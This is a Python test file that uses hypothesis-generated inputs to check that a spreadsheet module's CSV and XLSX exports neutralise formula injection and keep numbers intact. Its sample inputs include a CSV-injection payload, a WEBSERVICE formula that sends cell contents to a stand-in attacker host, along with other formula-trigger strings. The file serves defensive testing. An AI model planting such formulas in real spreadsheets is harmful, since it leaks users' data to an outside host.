"""core.spreadsheet: any text in any cell comes back from openpyxl with no formula cell and from the CSV with
no cell a spreadsheet would evaluate; numbers stay numbers; the CSV escape reads back exactly."""

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core import spreadsheet

EVALUATED = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Texts a spreadsheet evaluates, and the look of the probe's payloads.
NASTY = st.sampled_from(
    [
        '=WEBSERVICE("https://evil.example/?"&A2)',
        "-30% empleo",
        "+1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "=1",
        "'=1",
        "''",
        "'",
        "＝1+1",
        "-",
        "-3",
        "+2.5",
    ]
)
TEXT = st.one_of(NASTY, st.text(), st.builds(lambda c, t: c + t, st.sampled_from(EVALUATED), st.text()))


def evaluated(cell: str) -> bool:
    """Would a spreadsheet program treat this CSV cell as a formula? (A plain number is just a number.)"""
    return bool(cell) and cell[0] in EVALUATED and not spreadsheet.is_plain_number(cell)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), min_size=1, max_size=4))
def test_no_csv_cell_is_evaluated_and_every_text_reads_back(rows):
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    header = [f"c{i}" for i in range(width)]
    read = read_csv(spreadsheet.csv_bytes(header, rows))
    assert read[0] == header
    for written, back in zip(rows, read[1:], strict=True):
        assert not any(evaluated(cell) for cell in back), back
        assert [spreadsheet.unescape_cell(c) for c in back] == written


@settings(max_examples=150, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=5))
def test_no_xlsx_cell_is_a_formula_and_texts_are_exact(texts):
    header = [f"c{i}" for i in range(len(texts))]
    sheet = load_workbook(io.BytesIO(spreadsheet.xlsx_bytes(header, [texts]))).active
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    for cell, text in zip(cells, texts, strict=True):
        assert cell.data_type != "f"
        if text:
            assert cell.data_type == "s"
            expected = spreadsheet.ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
            # XML normalises a lone carriage return; the rest is exact.
            assert cell.value.replace("\r", "\n") == expected.replace("\r\n", "\n").replace("\r", "\n")


def test_numbers_stay_numbers():
    content = spreadsheet.xlsx_bytes(["n", "x", "t"], [[3, -2.5, "-3"]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert [c.value for c in sheet[2]] == [3, -2.5, "-3"]
    assert read_csv(spreadsheet.csv_bytes(["n", "x", "t", "u"], [[3, -2.5, "-3", "-30% empleo"]]))[1] == [
        "3",
        "-2.5",
        "-3",
        "'-30% empleo",
    ]
